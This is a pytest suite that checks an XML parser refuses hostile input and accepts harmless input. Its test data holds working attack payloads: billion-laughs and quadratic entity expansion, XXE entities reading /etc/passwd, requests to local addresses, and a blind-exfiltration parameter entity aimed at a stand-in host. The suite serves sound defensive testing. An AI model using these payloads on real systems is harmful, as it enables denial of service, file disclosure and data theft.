from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from naru.formats.xml import XmlLimits, XmlReason, XmlRefused, parse
from tests.quickest import AT_ONCE, cpu_seconds

R = XmlReason
MIB = 1024 * 1024


def _billion_laughs(inner: str = "lol") -> bytes:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else inner}">' for n in range(10))
    return f"<!DOCTYPE l [{entities}]><l>&l9;</l>".encode()


def _dtd(text: str, root: str = "<a>&x;</a>") -> bytes:
    return f"<!DOCTYPE a {text}>{root}".encode()


def _attributes(count: int) -> bytes:
    return b"<a " + b" ".join(b"a%d='1'" % n for n in range(count)) + b"/>"


def _namespaces(count: int) -> bytes:
    return b"<a " + b" ".join(b"xmlns:n%d='u%d'" % (n, n) for n in range(count)) + b"/>"


# Each is made when its test runs, so that collecting the tests stays cheap.
HOSTILE: dict[str, tuple[Callable[[], bytes], set[XmlReason]]] = {
    "billion laughs": (_billion_laughs, {R.DTD}),
    "billion laughs in utf-16": (lambda: _billion_laughs().decode().encode("utf-16"), {R.DTD}),
    "billion laughs after a mark": (lambda: b"\xef\xbb\xbf" + _billion_laughs(), {R.DTD}),
    "quadratic blow-up": (
        lambda: _dtd(f'[<!ENTITY x "{"x" * 100_000}">]', f"<a>{'&x;' * 50_000}</a>"),
        {R.DTD},
    ),
    "recursive entity": (lambda: _dtd('[<!ENTITY x "&y;"><!ENTITY y "&x;">]'), {R.DTD}),
    "external file": (lambda: _dtd('[<!ENTITY x SYSTEM "file:///etc/passwd">]'), {R.DTD}),
    "external address": (lambda: _dtd('[<!ENTITY x SYSTEM "http://127.0.0.1:9/">]'), {R.DTD}),
    "external in public form": (lambda: _dtd('[<!ENTITY x PUBLIC "p" "file:///x">]'), {R.DTD}),
    "external by ftp": (lambda: _dtd('[<!ENTITY x SYSTEM "ftp://127.0.0.1/">]'), {R.DTD}),
    "external by php": (lambda: _dtd('[<!ENTITY x SYSTEM "php://filter/x">]'), {R.DTD}),
    "external by jar": (lambda: _dtd('[<!ENTITY x SYSTEM "jar:file:///x!/y">]'), {R.DTD}),
    "external by netdoc": (lambda: _dtd('[<!ENTITY x SYSTEM "netdoc:///etc">]'), {R.DTD}),
    "external by data": (lambda: _dtd('[<!ENTITY x SYSTEM "data:text/plain,x">]'), {R.DTD}),
    "external unparsed": (lambda: _dtd('[<!ENTITY x SYSTEM "u" NDATA gif>]'), {R.DTD}),
    "parameter entity": (lambda: _dtd('[<!ENTITY % p SYSTEM "file:///etc/x">%p;]'), {R.DTD}),
    "parameter entity in steps": (
        lambda: _dtd("[<!ENTITY % a \"<!ENTITY &#37; b 'c'>\">%a;%b;]"),
        {R.DTD},
    ),
    "blind exfiltration": (
        lambda: _dtd('[<!ENTITY % f SYSTEM "file:///etc/x"><!ENTITY % d SYSTEM "http://h/">%d;]'),
        {R.DTD},
    ),
    "external subset": (lambda: _dtd('SYSTEM "http://127.0.0.1:9/a.dtd"', "<a/>"), {R.DTD}),
    "public subset": (lambda: _dtd('PUBLIC "-//W3C//DTD XHTML" "http://w3/"', "<a/>"), {R.DTD}),
    "harmless document type": (lambda: _dtd("", "<a/>"), {R.DTD}),
    "document type without a space": (lambda: b"<!DOCTYPEa><a/>", {R.DTD}),
    "document type in lower case": (lambda: b"<!doctype a><a/>", {R.DTD}),
    "document type behind a comment": (lambda: b"<!-- c --><!DOCTYPE a><a/>", {R.DTD}),
    "document type behind an instruction": (lambda: b"<?p q?>\n<!DOCTYPE a><a/>", {R.DTD}),
    "document type behind a megabyte of blanks": (
        lambda: b"<?p?>" + b" " * MIB + b"<!DOCTYPE a><a/>",
        {R.DTD},
    ),
    "document type in latin-1": (
        lambda: b'<?xml version="1.0" encoding="iso-8859-1"?><!DOCTYPE a><a/>',
        {R.DTD},
    ),
    "document type in euc-kr": (
        lambda: '<?xml version="1.0" encoding="euc-kr"?><!--가--><!DOCTYPE a><a/>'.encode("euc-kr"),
        {R.DTD},
    ),
    "document type never ended": (lambda: b"<!DOCTYPE a [", {R.DTD}),
    "default attribute": (lambda: _dtd('[<!ATTLIST a b CDATA "c">]', "<a/>"), {R.DTD}),
    "notation": (lambda: _dtd('[<!NOTATION n SYSTEM "x">]', "<a/>"), {R.DTD}),
    "element declaration": (lambda: _dtd("[<!ELEMENT a ANY>]", "<a/>"), {R.DTD}),
    "declared by a long name": (
        lambda: b'<?xml version="1.0" encoding="' + b"u" * 5000 + b'"?><a/>',
        {R.ENCODING},
    ),
    "declared by a name with a slash": (
        lambda: b'<?xml version="1.0" encoding="../x"?><a/>',
        {R.ENCODING},
    ),
    "declaration in another order": (
        lambda: b'<?xml encoding="utf-7" version="1.0"?><a/>',
        {R.ENCODING},
    ),
    "declaration with a third part": (
        lambda: b'<?xml version="1.0" other="yes"?><a/>',
        {R.ENCODING},
    ),
    "two byte order marks": (lambda: b"\xef\xbb\xbf" * 2 + b"<a/>", {R.ENCODING}),
    "two byte order marks in utf-16": (
        lambda: "\ufeff<a/>".encode("utf-16"),
        {R.ENCODING},
    ),
    "document type inside the root": (lambda: b"<a><!DOCTYPE b></a>", {R.MALFORMED}),
    "document type behind the root": (lambda: b"<a/><!DOCTYPE a>", {R.MALFORMED}),
    "undeclared entity": (lambda: b"<a>&x;</a>", {R.MALFORMED}),
    "entity of html": (lambda: b"<a>&nbsp;</a>", {R.MALFORMED}),
    "undeclared entity in an attribute": (lambda: b"<a b='&x;'/>", {R.MALFORMED}),
    "10,000 deep": (lambda: b"<a>" * 10_000 + b"</a>" * 10_000, {R.TOO_DEEP}),
    "10,000 deep and never closed": (lambda: b"<a>" * 10_000, {R.TOO_DEEP}),
    "90,000 deep": (lambda: b"<a>" * 90_000 + b"</a>" * 90_000, {R.TOO_DEEP}),
    "a million deep": (lambda: b"<a>" * MIB, {R.TOO_MUCH_MARKUP}),
    "201 deep": (lambda: b"<a>" * 201 + b"</a>" * 201, {R.TOO_DEEP}),
    "2,000 deep in a huge text": (
        lambda: b"<a>" * 2_000 + b"x" * 11_000_000 + b"</a>" * 2_000,
        {R.TOO_DEEP},
    ),
    "10,000 deep in a huge text": (
        lambda: b"<a>" * 10_000 + b"x" * 11_000_000 + b"</a>" * 10_000,
        {R.TOO_DEEP},
    ),
    "deep prefixes": (
        lambda: b"".join(b"<p%d:a xmlns:p%d='u'>" % (n, n) for n in range(10_000)),
        {R.TOO_DEEP},
    ),
    "257 attributes": (lambda: _attributes(257), {R.TOO_MANY_ATTRIBUTES}),
    "100,000 attributes": (lambda: _attributes(100_000), {R.TOO_MANY_ATTRIBUTES}),
    "a million attributes": (lambda: _attributes(MIB), {R.TOO_MANY_ATTRIBUTES}),
    "a million namespaces": (lambda: _namespaces(MIB // 2), {R.TOO_MANY_ATTRIBUTES}),
    "doubled attribute": (lambda: b"<a b='1' b='2'/>", {R.MALFORMED}),
    "doubled attribute by two prefixes": (
        lambda: b"<a xmlns:p='u' xmlns:q='u' p:b='1' q:b='2'/>",
        {R.MALFORMED},
    ),
    "long attribute": (lambda: b"<a b='" + b"x" * 70_000 + b"'/>", {R.ATTRIBUTE_TOO_LONG}),
    "very long attribute": (
        lambda: b"<a b='" + b"x" * 9_900_000 + b"'/>",
        {R.ATTRIBUTE_TOO_LONG},
    ),
    "huge attribute": (
        lambda: b"<a b='" + b"x" * 11_000_000 + b"'/>",
        {R.ATTRIBUTE_TOO_LONG, R.TEXT_TOO_LONG},
    ),
    "long namespace name": (
        lambda: b"<a xmlns='" + b"x" * 11_000_000 + b"'/>",
        {R.ATTRIBUTE_TOO_LONG},
    ),
    "long namespace name of a prefix": (
        lambda: b"<p:a xmlns:p = '" + b"x" * 5_000 + b"'/>",
        {R.ATTRIBUTE_TOO_LONG},
    ),
    "long namespace name that holds quotes": (
        lambda: b"<a xmlns='" + b'x"' * 5_000 + b"'/>",
        {R.ATTRIBUTE_TOO_LONG},
    ),
    "long namespace name far behind its prefix": (
        lambda: b"<p:a xmlns:p" + b" " * 10_000 + b"='" + b"x" * 5_000 + b"'/>",
        {R.ATTRIBUTE_TOO_LONG},
    ),
    "long namespace name with a long prefix": (
        lambda: b"<a xmlns:" + b"p" * 10_000 + b"='" + b"x" * 5_000 + b"'/>",
        {R.ATTRIBUTE_TOO_LONG},
    ),
    "prefixes of namespaces that are never closed": (
        lambda: b"<a>" + b"xmlns" * (3 * MIB) + b"</b>",
        {R.MALFORMED, R.TEXT_TOO_LONG},
    ),
    "long element name": (lambda: b"<" + b"x" * MIB + b"/>", {R.MALFORMED, R.TEXT_TOO_LONG}),
    "long attribute name": (lambda: b"<a " + b"x" * MIB + b"='1'/>", {R.MALFORMED}),
    "long instruction target": (lambda: b"<?" + b"x" * MIB + b"?><a/>", {R.MALFORMED}),
    "long text": (lambda: b"<a>" + b"x" * (15 * MIB + 1) + b"</a>", {R.TEXT_TOO_LONG}),
    "long section": (
        lambda: b"<a><![CDATA[" + b"x" * (15 * MIB + 1) + b"]]></a>",
        {R.TEXT_TOO_LONG},
    ),
    "oversize": (lambda: b"<a>" + b"x" * 16 * MIB + b"</a>", {R.TOO_LARGE}),
    "a million elements": (lambda: b"<a>" + b"<b/>" * MIB + b"</a>", {R.TOO_MUCH_MARKUP}),
    "a million comments": (lambda: b"<!---->" * MIB + b"<a/>", {R.TOO_MUCH_MARKUP}),
    "100,000 comments in the prolog": (lambda: b"<!---->" * 100_000 + b"<a/>", {R.PROLOG}),
    "a million instructions": (lambda: b"<?a?>" * MIB + b"<a/>", {R.TOO_MUCH_MARKUP}),
    "two million references": (lambda: b"<a>" + b"&amp;" * 2 * MIB + b"</a>", {R.TOO_MUCH_MARKUP}),
    "reference to NUL": (lambda: b"<a>&#0;</a>", {R.MALFORMED}),
    "reference to a control": (lambda: b"<a>&#x1;</a>", {R.MALFORMED}),
    "reference to a surrogate": (lambda: b"<a>&#xD800;</a>", {R.MALFORMED}),
    "reference out of range": (lambda: b"<a>&#x110000;</a>", {R.MALFORMED}),
    "endless reference": (lambda: b"<a>&#" + b"9" * MIB + b";</a>", {R.MALFORMED}),
    "NUL in text": (lambda: b"<a>\0</a>", {R.NUL}),
    "NUL behind the root": (lambda: b"<a/>\0", {R.NUL}),
    "NUL in utf-16": (lambda: "<a>\0</a>".encode("utf-16"), {R.NUL}),
    "control": (lambda: b"<a>\x01</a>", {R.MALFORMED}),
    "utf-7": (lambda: b'<?xml version="1.0" encoding="UTF-7"?>+ADw-a/+AD4-', {R.ENCODING}),
    "ebcdic": (lambda: '<?xml version="1.0" encoding="cp037"?><a/>'.encode("cp037"), {R.MALFORMED}),
    "declared ebcdic": (lambda: b'<?xml version="1.0" encoding="cp037"?><a/>', {R.ENCODING}),
    "utf-32": (lambda: "<a/>".encode("utf-32"), {R.ENCODING}),
    "utf-32 without mark": (lambda: "<a/>".encode("utf-32-be"), {R.NUL}),
    "utf-16 without mark": (lambda: "<a/>".encode("utf-16-le"), {R.NUL}),
    "utf-16 declared, utf-8 sent": (
        lambda: b'<?xml version="1.0" encoding="UTF-16"?><a/>',
        {R.ENCODING},
    ),
    "utf-16 sent, utf-8 declared": (
        lambda: '<?xml version="1.0" encoding="UTF-8"?><a/>'.encode("utf-16"),
        {R.ENCODING},
    ),
    "mark of utf-8, latin-1 declared": (
        lambda: b'\xef\xbb\xbf<?xml version="1.0" encoding="iso-8859-1"?><a/>',
        {R.ENCODING},
    ),
    "half a character of utf-16": (lambda: "<a/>".encode("utf-16") + b"\0", {R.ENCODING}),
    "half a surrogate of utf-16": (lambda: b"\xff\xfe\x00\xd8", {R.ENCODING}),
    "overlong utf-8": (lambda: b"<a>\xc0\xbc</a>", {R.ENCODING, R.MALFORMED}),
    "surrogate in utf-8": (lambda: b"<a>\xed\xa0\x80</a>", {R.ENCODING, R.MALFORMED}),
    "latin-1 without declaration": (lambda: b"<a>\xe9</a>", {R.ENCODING, R.MALFORMED}),
    "euc-kr without declaration": (lambda: "<a>가</a>".encode("euc-kr"), {R.ENCODING, R.MALFORMED}),
    "not euc-kr": (lambda: b'<?xml version="1.0" encoding="euc-kr"?><a>\xff</a>', {R.ENCODING}),
    "not ascii": (
        lambda: b'<?xml version="1.0" encoding="us-ascii"?><a>\xea\xb0\x80</a>',
        {R.ENCODING},
    ),
    "encoding hz": (lambda: b'<?xml version="1.0" encoding="hz"?><a/>', {R.ENCODING}),
    "encoding base64": (lambda: b'<?xml version="1.0" encoding="base64"?><a/>', {R.ENCODING}),
    "encoding idna": (lambda: b'<?xml version="1.0" encoding="idna"?><a/>', {R.ENCODING}),
    "encoding unicode_escape": (
        lambda: b'<?xml version="1.0" encoding="unicode_escape"?><a/>',
        {R.ENCODING},
    ),
    "nothing": (lambda: b"", {R.EMPTY}),
    "blanks": (lambda: b"   ", {R.MALFORMED}),
    "not xml": (lambda: b"PK\x03\x04", {R.MALFORMED}),
    "json": (lambda: b'{"a": 1}', {R.MALFORMED}),
    "html": (lambda: b"<html><br></html>", {R.MALFORMED}),
    "two roots": (lambda: b"<a/><b/>", {R.MALFORMED}),
    "text behind the root": (lambda: b"<a/>x", {R.MALFORMED}),
    "never closed": (lambda: b"<a>", {R.MALFORMED}),
    "comment never closed": (lambda: b"<!--" + b"x" * MIB, {R.MALFORMED}),
    "instruction never closed": (lambda: b"<?a" + b"x" * MIB, {R.MALFORMED}),
    "section never closed": (lambda: b"<a><![CDATA[" + b"x" * MIB, {R.MALFORMED, R.TEXT_TOO_LONG}),
    "undeclared prefix": (lambda: b"<p:a/>", {R.MALFORMED}),
    "undeclared prefix of an attribute": (lambda: b"<a p:b='1'/>", {R.MALFORMED}),
    "xml prefix bound elsewhere": (lambda: b"<a xmlns:xml='u'/>", {R.MALFORMED}),
    "xmlns prefix bound": (lambda: b"<a xmlns:xmlns='u'/>", {R.MALFORMED}),
    "second declaration": (lambda: b"<a><?xml version='1.0'?></a>", {R.MALFORMED}),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_xml_is_refused_by_name_within_100_ms(name: str) -> None:
    make, reasons = HOSTILE[name]
    data = make()

    def refused() -> None:
        with pytest.raises(XmlRefused) as refusal:
            parse(data)
        assert refusal.value.reason in reasons

    assert cpu_seconds(refused, enough=0.1) < AT_ONCE


HARMLESS: dict[str, Callable[[], bytes]] = {
    "xinclude": lambda: (
        b"<a xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/passwd'/></a>"
    ),
    "schema location": lambda: (
        b"<a xmlns:x='http://www.w3.org/2001/XMLSchema-instance' "
        b"x:schemaLocation='u http://127.0.0.1:9/u.xsd'/>"
    ),
    "stylesheet": lambda: b"<?xml-stylesheet type='text/xsl' href='http://127.0.0.1:9/x'?><a/>",
    "base": lambda: b"<a xml:base='file:///etc/'/>",
    "document type as text": lambda: b"<a><![CDATA[<!DOCTYPE a>]]></a>",
    "document type in a comment": lambda: b"<!-- <!DOCTYPE a> --><a/>",
    "200 deep": lambda: b"<a>" * 200 + b"</a>" * 200,
    "256 attributes": lambda: _attributes(256),
    "190,000 elements": lambda: b"<a>" + b"<b/>" * 190_000 + b"</a>",
    "20,000 namespaces": lambda: _namespaces(20_000),
    "10 MiB of base64": lambda: b"<a>" + b"QUJD" * (14 * MIB // 4) + b"</a>",
    "900,000 references": lambda: b"<a>" + b"&lt;" * 900_000 + b"</a>",
}


@pytest.mark.parametrize("name", HARMLESS)
def test_what_is_followed_by_nobody_parses_within_100_ms(name: str) -> None:
    data = HARMLESS[name]()
    assert cpu_seconds(lambda: parse(data), enough=0.1) < AT_ONCE
    assert b"root:" not in etree.tostring(parse(data))[:2000]


@pytest.mark.parametrize(
    "data",
    [
        "<a>가</a>".encode(),
        b"\xef\xbb\xbf" + "<a>가</a>".encode(),
        "<a>가</a>".encode("utf-16"),
        '<?xml version="1.0" encoding="UTF-16"?><a>가</a>'.encode("utf-16"),
        '<?xml version="1.0" encoding="EUC-KR"?><a>가</a>'.encode("euc-kr"),
        "<?xml version='1.0' encoding='utf-8' standalone='yes'?>\n<a>가</a>\n".encode(),
    ],
)
def test_every_accepted_encoding_gives_the_same_text(data: bytes) -> None:
    assert parse(data).text == "가"


def test_euc_kr_is_read_as_its_superset_that_korean_systems_send() -> None:
    data = '<?xml version="1.0" encoding="EUC-KR"?><a>똠방각하</a>'.encode("cp949")
    assert parse(data).text == "똠방각하"


def test_a_comment_cannot_cut_a_text_in_two() -> None:
    assert parse(b"<a>admin<!-- -->@evil</a>").text == "admin@evil"


@pytest.mark.parametrize("before", range(0, 700, 17))
def test_a_crowded_or_long_tag_is_found_wherever_it_stands(before: int) -> None:
    padded = b"<d>" + b" " * before + b"<!--" + b"<" * 900 + b"-->%s<b/><b/></d>"
    names = [chr(0x4E00 + n).encode() for n in range(257)]
    crowded = b"<a " + b" ".join(name + b'=""' for name in names) + b"/>"
    assert parse(padded % crowded.replace(names[0] + b'="" ', b""))[0].tag == "a"
    for hostile, reason in {
        crowded: R.TOO_MANY_ATTRIBUTES,
        b"<a xmlns:b='" + b"u" * 2048 + b"'/>": R.ATTRIBUTE_TOO_LONG,
    }.items():
        with pytest.raises(XmlRefused) as refused:
            parse(padded % hostile)
        assert refused.value.reason is reason


def test_few_attributes_allowed_are_counted_in_a_short_tag() -> None:
    limits = XmlLimits(attributes=1)
    assert parse(b"<a><b c=''/></a>", limits=limits).tag == "a"
    with pytest.raises(XmlRefused):
        parse(b"<a><b c='' d=''/></a>", limits=limits)


def test_the_limit_is_the_callers() -> None:
    with pytest.raises(XmlRefused) as refusal:
        parse(b"<a>12345678</a>", limits=XmlLimits(size=10))
    assert refusal.value.reason is R.TOO_LARGE


def test_a_refusal_quotes_nothing_of_the_document() -> None:
    with pytest.raises(XmlRefused) as refusal:
        parse("<홍길동></홍길순>".encode())
    assert "홍" not in str(refusal.value)
    assert refusal.value.__cause__ is None
    assert refusal.value.__context__ is None


def _refused(data: bytes) -> XmlReason | None:
    try:
        root = parse(data)
    except XmlRefused as refusal:
        return refusal.reason
    assert root.getroottree().docinfo.internalDTD is None
    return None


@given(st.binary(max_size=200))
def test_any_bytes_parse_or_are_refused(data: bytes) -> None:
    assert _refused(data) in {None, *XmlReason}


PIECES = (
    *(b"<a>", b"</a>", b"<!--", b"-->", b"<?x", b"?>", b"<![CDATA[", b"]]>"),
    *(b"<!DOCTYPE", b"&x;", b"&lt;", b" ", b"x", b"<b c='", b"'/>"),
)


@given(st.lists(st.sampled_from(PIECES), max_size=30))
def test_any_mixture_of_markup_parses_without_a_document_type_or_is_refused(
    pieces: list[bytes],
) -> None:
    assert _refused(b"".join(pieces)) in {None, *XmlReason}
